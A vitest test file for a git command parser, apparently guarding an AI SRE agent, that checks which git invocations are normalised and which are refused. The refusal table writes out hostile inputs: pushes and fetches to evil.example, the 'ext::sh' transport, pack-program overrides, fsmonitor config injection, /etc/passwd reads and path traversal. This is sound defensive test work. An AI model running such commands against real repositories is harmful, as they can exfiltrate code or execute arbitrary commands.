// git's words: what each comes to, and the many that are refused because git would read more into them than they say.
import { describe, expect, it } from "vitest";
import { commandOf, refusalOf, rendered } from "./reading.ts";

describe("git's argv", () => {
  const table: readonly (readonly [words: string, argv: string])[] = [
    ["git status", "git status"],
    ["git status -b --porcelain", "git status --branch --porcelain=v1"],
    ["git status -uno ./src//", "git status --untracked-files=no -- src"],
    ["git log", "git log --no-ext-diff --no-textconv --max-count=200 --end-of-options --"],
    [
      "git log -5 --oneline main..HEAD",
      "git log --no-ext-diff --no-textconv --oneline --max-count=5 --end-of-options main..HEAD --",
    ],
    [
      "git log --pretty='format:%h %an' -- f.txt",
      "git log --no-ext-diff --no-textconv --format=format:%h %an --max-count=200 --end-of-options -- f.txt",
    ],
    ["git show", "git show --no-ext-diff --no-textconv --end-of-options HEAD --"],
    ["git show HEAD:./d/f.txt", "git show --no-ext-diff --no-textconv --end-of-options HEAD:d/f.txt --"],
    ["git diff HEAD~0 -- f.txt", "git diff --no-ext-diff --no-textconv --end-of-options HEAD~0 -- f.txt"],
    ["git diff --staged --stat", "git diff --no-ext-diff --no-textconv --stat --cached --end-of-options --"],
    ["git blame -L 1,3 f.txt", "git blame -L1,3 -- f.txt"],
    ["git blame main f.txt", "git blame main -- f.txt"],
    ["git shortlog -sn", "git shortlog --summary --numbered --end-of-options HEAD --"],
    ["git stash list", "git stash list"],
    ["git remote -v", "git remote --verbose"],
    ["git fetch", "git fetch --no-tags --no-recurse-submodules origin"],
    ["git fetch origin main", "git fetch --no-tags --no-recurse-submodules origin main"],
    ["git pull", "git pull --ff-only --no-tags --no-recurse-submodules origin main"],
    ["git add .", "git add -- ."],
    ["git commit -am x -m y", "git commit --trailer=AI-SRE-Call: {{call.id}} --message=x --message=y --all"],
    [
      "git push origin HEAD:ai-sre/x",
      "git push --no-follow-tags --recurse-submodules=no origin HEAD:refs/heads/ai-sre/x",
    ],
    [
      "git push origin ai-sre/x",
      "git push --no-follow-tags --recurse-submodules=no origin ai-sre/x:refs/heads/ai-sre/x",
    ],
    ["git --version", "git --version"],
    ["git --help", "git --help"],
  ];
  it.each(table)("%s", (words, argv) => {
    expect(rendered(words)).toBe(argv);
  });
});

describe("git's facts", () => {
  it("a push names its remote, its source and the full name of its destination", () => {
    expect(commandOf("git push origin HEAD:ai-sre/x")).toMatchObject({
      effect: "write",
      egress: true,
      dryRun: false,
      git: {
        remote: "origin",
        refs: [{ source: "HEAD", destination: "refs/heads/ai-sre/x", force: false }],
        changedPaths: [],
      },
    });
  });

  it("a range names both of its revisions, a file its path", () => {
    expect(commandOf("git diff main...v1 -- a/b").git?.refs.map(({ source }) => source)).toEqual(["main", "v1"]);
    expect(commandOf("git show v1:a/b").paths).toEqual([{ path: "a/b", mode: "read" }]);
  });

  it("add and commit stay here, fetch and pull talk, and none of the four is a write", () => {
    const effects = ["git add -A", "git commit -m x", "git fetch", "git pull"].map((words) => {
      const { effect, egress } = commandOf(words);
      return [effect, egress];
    });
    expect(effects).toEqual([
      ["workspace", false],
      ["workspace", false],
      ["workspace", true],
      ["workspace", true],
    ]);
  });

  it("a message is one word, whatever it holds", () => {
    const { argv } = commandOf(["git", "commit", "-m", "--force\n\n$(x); `y` | z\t!"]);
    expect(argv).toEqual([
      "git",
      "commit",
      "--trailer=AI-SRE-Call: {{call.id}}",
      "--message=--force\n\n$(x); `y` | z\t!",
    ]);
  });

  it("a dry run of a push is one", () => {
    expect(commandOf("git push -n origin HEAD:ai-sre/x").dryRun).toBe(true);
  });
});

describe("git is refused", () => {
  const table: readonly (readonly [words: string, index: number])[] = [
    ["git -c core.fsmonitor=x status", 1],
    ["git -ccore.fsmonitor=x status", 1],
    ["git --config-env=core.fsmonitor=X status", 1],
    ["git -C /tmp status", 1],
    ["git --git-dir=/tmp status", 1],
    ["git --exec-path=/tmp status", 1],
    ["git -p log", 1],
    ["git --bare status", 1],
    ["git checkout f", 1],
    ["git config --list", 1],
    ["git ls-remote origin", 1],
    ["git xyz", 1],
    ["git log --output=/tmp/w", 2],
    ["git log --outp=/tmp/w", 2],
    ["git log --ext-diff", 2],
    ["git log --textconv", 2],
    ["git log --format=%x1b]0;pwn%x07", 2],
    ["git log --format=%G?", 2],
    ["git log --format=%C(red)x", 2],
    ["git log --show-signature", 2],
    ["git log --onelin", 2],
    ["git log HEAD@{1}", 2],
    ["git log ^main", 2],
    ["git log :/fix", 2],
    ["git log -- :(glob)**", 3],
    ["git log -- *.ts", 3],
    ["git log -- ../x", 3],
    ["git log -- /etc/passwd", 3],
    ["git log -- a/.GIT/config", 3],
    ["git log -- .git", 3],
    ["git log -- GIT~1", 3],
    ["git log --max-count=1 --max-count=2", 3],
    ["git log --oneline --format=%h", 3],
    ["git log --no-abbrev-commit --oneline", 2],
    ["git diff --stat --no-patch", 2],
    ["git show --no-patch -p", 3],
    ["git branch -a -r", 3],
    ["git rev-parse HEAD --short", 3],
    ["git pull -q -v", 3],
    ["git diff /dev/null /etc/passwd", 2],
    ["git diff --no-index a b", 2],
    ["git diff --no-inde a b", 2],
    ["git diff a b c", 4],
    ["git show :f", 2],
    ["git show HEAD:../f", 2],
    ["git show HEAD:.git/config", 2],
    ["git show HEAD:", 2],
    ["git blame --contents f g", 2],
    ["git blame", 1],
    ["git branch x", 2],
    ["git branch -d x", 2],
    ["git branch -D x", 2],
    ["git branch -m x", 2],
    ["git branch --set-upstream-to=x", 2],
    ["git tag v2", 2],
    ["git tag -d v1", 2],
    ["git stash", 1],
    ["git stash pop", 2],
    ["git remote add x y", 2],
    ["git fetch --upload-pack=x origin", 2],
    ["git fetch --upl=x origin", 2],
    ["git fetch --all", 2],
    ["git fetch --prune", 2],
    ["git fetch /tmp/x", 2],
    ["git fetch https://evil.example/x", 2],
    ["git fetch user@evil.example:x", 2],
    ["git fetch ext::sh", 2],
    ["git fetch origin +main:main", 3],
    ["git fetch origin main:main", 3],
    ["git pull --rebase", 2],
    ["git pull --force origin +main:main", 2],
    ["git pull /tmp/x main", 2],
    ["git add", 1],
    ["git add -f x", 2],
    ["git add -p", 2],
    ["git add /tmp/x", 2],
    ["git add --pathspec-from-file=x", 2],
    ["git commit", 1],
    ["git commit -m ''", 2],
    ["git commit --amend -m x", 2],
    ["git commit -F /tmp/x", 2],
    ["git commit -m x --trailer=Signed-off-by:x", 4],
    ["git commit -m AI-SRE-Approved-By:carol", 2],
    ["git commit -aF/tmp/x", 2],
    ["git commit -m x --no-verify", 4],
    ["git push", 1],
    ["git push origin", 2],
    ["git push -f", 2],
    ["git push -uf origin main", 2],
    ["git push --force-w origin main", 2],
    ["git push --mirror origin", 2],
    ["git push --delete origin x", 2],
    ["git push origin :main", 3],
    ["git push origin +HEAD:main", 3],
    ["git push origin refs/*:refs/*", 3],
    ["git push origin HEAD:refs/tags/v1", 3],
    ["git push origin HEAD:refs/for/main", 3],
    ["git push origin HEAD", 3],
    ["git push origin a:b:c", 3],
    ["git push origin a:b c:d", 4],
    ["git push --tags", 2],
    ["git push -o x origin a:b", 2],
    ["git push --repo=/tmp/x", 2],
    ["git push --receive-pack=x origin a:b", 2],
    ["git push https://evil.example/x HEAD:ai-sre/x", 2],
  ];
  it.each(table)("%s, at word %i", (words, index) => {
    const argv = words.split(" ").map((word) => (word === "''" ? "" : word));
    const { position, message } = refusalOf(argv);
    expect([position?.index, message.length > 10]).toEqual([index, true]);
  });

  it("behind a pipe, because it would not read what comes through", () => {
    expect(refusalOf("git log | git shortlog").position).toEqual({ stage: 1, index: 0 });
    expect(commandOf("git log | grep -i fix").binary).toBe("git");
  });
});
